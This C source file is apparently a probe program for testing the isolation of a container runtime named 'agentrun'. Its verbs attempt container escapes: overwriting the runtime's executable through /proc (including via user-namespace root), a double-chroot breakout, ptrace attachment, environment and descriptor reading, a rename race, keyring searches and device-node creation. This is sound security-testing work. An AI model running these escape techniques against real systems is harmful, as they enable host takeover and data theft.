/*
 * What runs inside the attacked containers: one static program with a verb for each thing
 * that a shell cannot do. Prints what it got at; says nothing about whether that is bad.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif
#define KEYCTL_SEARCH 10
#define KEYCTL_JOIN_SESSION_KEYRING 1
#define KEYCTL_SETPERM 5
#define SESSION_KEYRING (-3)

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	int r = fd < 0 || write(fd, text, strlen(text)) < 0 ? -errno : 0;

	if (fd >= 0)
		close(fd);
	return r;
}

/* swap A B: exchanges the two names until killed. */
static int swap(char **argv)
{
	while (argv[0])
		syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE);
	return 0;
}

static const char *tag = "";

/* Whether it is the runtime, called with the tag in one of its arguments. */
static int is_ours(const char *pid)
{
	char path[64], text[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
	fd = open(path, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, text, sizeof(text));
	if (fd >= 0)
		close(fd);
	return n > 0 && memmem(text, (size_t)n, "agentrun", 8) && memmem(text, (size_t)n, "--root", 6) &&
	       memmem(text, (size_t)n, tag, strlen(tag));
}

/* It may have become the container's program since it was looked at: then this is no find. */
static void found(const char *what, const char *pid)
{
	if (is_ours(pid))
		printf("%s of %s\n", what, pid);
}

static void look(const char *pid)
{
	char path[320], text[512], target[256];
	struct dirent *e;
	ssize_t n;
	DIR *d;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDWR);
	if (fd >= 0) {
		found("WRITABLE exe", pid);
		close(fd);
	}
	fd = open(path, O_PATH);
	if (fd >= 0) {
		found("REACHED exe", pid);
		close(fd);
	}
	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	fd = open(path, O_RDONLY);
	if (fd >= 0 && read(fd, text, sizeof(text)) > 0)
		found("READ environment", pid);
	if (fd >= 0)
		close(fd);
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	d = opendir(path);
	while (d && (e = readdir(d))) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, e->d_name);
		n = readlink(path, target, sizeof(target) - 1);
		snprintf(text, sizeof(text), "REACHED descriptor %s (%.*s)", e->d_name, n > 0 ? (int)n : 0, target);
		if (n > 0)
			found(text, pid);
	}
	if (d)
		closedir(d);
	if (ptrace(PTRACE_ATTACH, atoi(pid), 0, 0) == 0) {
		found("TRACED the process", pid);
		ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
	}
}

/* scan SECONDS TAG: tries to get at every process of the runtime that shows up in /proc. */
static int scan(char **argv)
{
	double end = now() + atof(argv[0]);
	unsigned seen = 0;

	tag = argv[1];
	while (now() < end) {
		struct dirent *e;
		DIR *d = opendir("/proc");

		while (d && (e = readdir(d)))
			if (atoi(e->d_name) > 0 && is_ours(e->d_name)) {
				seen++;
				look(e->d_name);
			}
		if (d)
			closedir(d);
	}
	printf("seen %s\n", seen ? "some" : "none");
	return 0;
}

/* look PID TAG */
static int look_one(char **argv)
{
	tag = argv[1];
	printf("%s\n", is_ours(argv[0]) ? "seen" : "not seen");
	look(argv[0]);
	return 0;
}

static int unlock(int fd)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };

	return syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) < 0 ? -errno : 0;
}

static int try_write(int fd)
{
	char path[64];
	int w;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	w = open(path, O_WRONLY);
	if (w < 0)
		return -errno;
	if (pwrite(w, "HACKED", 6, 0) != 6) {
		close(w);
		return -EIO;
	}
	printf("WROTE to it\n");
	close(w);
	return 0;
}

static int become_userns_root(void)
{
	int uid = (int)getuid(), gid = (int)getgid();
	char map[64];

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return -errno;
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %d 1", uid);
	write_file("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "0 %d 1", gid);
	write_file("/proc/self/gid_map", map);
	return 0;
}

/* The program of the process that was called by this name. */
static int open_exe_of(const char *name)
{
	char path[320], text[256];
	int fd = -1, found = -1;
	struct dirent *e;
	DIR *d = opendir("/proc");

	while (d && found < 0 && (e = readdir(d))) {
		if (atoi(e->d_name) <= 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%s/cmdline", e->d_name);
		fd = open(path, O_RDONLY);
		memset(text, 0, sizeof(text));
		if (fd >= 0 && read(fd, text, sizeof(text) - 1) > 0 && strcmp(text, name) == 0) {
			snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
			found = open(path, O_PATH);
		}
		if (fd >= 0)
			close(fd);
	}
	if (d)
		closedir(d);
	return found;
}

/*
 * overwrite NAME FIFO SECONDS: gets at the program of the process called NAME, which waits
 * for somebody to read the fifo, lets it end, and tries to write the program.
 */
static int overwrite(char **argv)
{
	double end = now() + atof(argv[2]);
	int fd = -1, i, r;

	while (fd < 0 && now() < end)
		fd = open_exe_of(argv[0]);
	if (fd < 0) {
		printf("not reached\n");
		return 0;
	}
	if (open(argv[1], O_RDONLY | O_NONBLOCK) < 0)
		return 2;
	printf("reached\n");
	/* Its own run must be over, or all there is to see is "text file busy". */
	for (i = 0; i < 20; i++) {
		r = try_write(fd);
		if (r != -ETXTBSY)
			break;
		usleep(100 * 1000);
	}
	printf("write: %s\n", strerror(-r));
	r = unlock(fd);
	printf("unlock: %s\n", strerror(-r));
	if (r == 0)
		printf("write: %s\n", strerror(-try_write(fd)));
	r = become_userns_root();
	if (r == 0) {
		r = unlock(fd);
		printf("unlock as root of a user namespace: %s\n", strerror(-r));
		printf("write: %s\n", strerror(-try_write(fd)));
	}
	return 0;
}

/* breakout FILE: the old way out of a chroot, then tries to read the file of the host. */
static int breakout(char **argv)
{
	int root = open("/", O_RDONLY | O_DIRECTORY), i, fd;
	char text[64];
	ssize_t n;

	mkdir("/tmp/jail", 0700);
	if (chroot("/tmp/jail") < 0 || fchdir(root) < 0)
		return 2;
	for (i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0)
		return 2;
	fd = open(argv[0], O_RDONLY);
	n = fd < 0 ? -1 : read(fd, text, sizeof(text));
	printf("%s\n", n > 0 ? "ESCAPED" : "inside");
	return 0;
}

/* with-key NAME PROGRAM...: runs it in a session keyring that holds a key of that name. */
static int with_key(char **argv)
{
	long key;

	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0)
		return 2;
	key = syscall(SYS_add_key, "user", argv[0], "secret", 6, SESSION_KEYRING);
	/* To whoever possesses the keyring, and to the user. */
	if (key < 0 || syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f3f0000) < 0)
		return 2;
	execvp(argv[1], argv + 1);
	return 2;
}

/* find-key NAME */
static int find_key(char **argv)
{
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, SESSION_KEYRING, "user", argv[0], 0);

	printf("key: %s\n", key < 0 ? strerror(errno) : "FOUND");
	return 0;
}

/* device TYPE MAJOR MINOR: makes the node in /tmp and opens it. */
static int device(char **argv)
{
	mode_t type = argv[0][0] == 'b' ? S_IFBLK : S_IFCHR;
	int fd;

	unlink("/tmp/node");
	if (mknod("/tmp/node", type | 0600, makedev(atoi(argv[1]), atoi(argv[2]))) < 0) {
		printf("mknod: %s\n", strerror(errno));
		return 0;
	}
	fd = open("/tmp/node", O_RDWR | O_NONBLOCK | O_NOCTTY);
	printf("open: %s\n", fd < 0 ? strerror(errno) : "OPENED");
	return 0;
}

/* pty: has a terminal that no session has taken, and waits. */
static int pty(char **argv)
{
	int fd = open("/dev/ptmx", O_RDWR | O_NOCTTY);

	(void)argv;
	if (fd < 0 || unlockpt(fd) < 0)
		return 2;
	pause();
	return 0;
}

/* tty: whether the process has a controlling terminal. */
static int tty(char **argv)
{
	int fd = open("/dev/tty", O_RDWR);

	(void)argv;
	printf("%s\n", fd < 0 ? "none" : "TERMINAL");
	return 0;
}

/* write FILE TEXT */
static int write_verb(char **argv)
{
	printf("%s: %s\n", argv[0], strerror(-write_file(argv[0], argv[1])));
	return 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int args;
		int (*fn)(char **argv);
	} verbs[] = {
		{ "swap", 2, swap },	      { "scan", 2, scan },	  { "look", 2, look_one },
		{ "overwrite", 3, overwrite }, { "with-key", 2, with_key }, { "find-key", 1, find_key },
		{ "device", 3, device },      { "breakout", 1, breakout },  { "tty", 0, tty },
		{ "pty", 0, pty },	     	  { "write", 2, write_verb },
	};
	size_t i;

	setvbuf(stdout, NULL, _IOLBF, 0);
	for (i = 0; argc > 1 && i < sizeof(verbs) / sizeof(verbs[0]); i++)
		if (strcmp(verbs[i].name, argv[1]) == 0 && argc - 2 >= verbs[i].args)
			return verbs[i].fn(argv + 2);
	return 2;
}
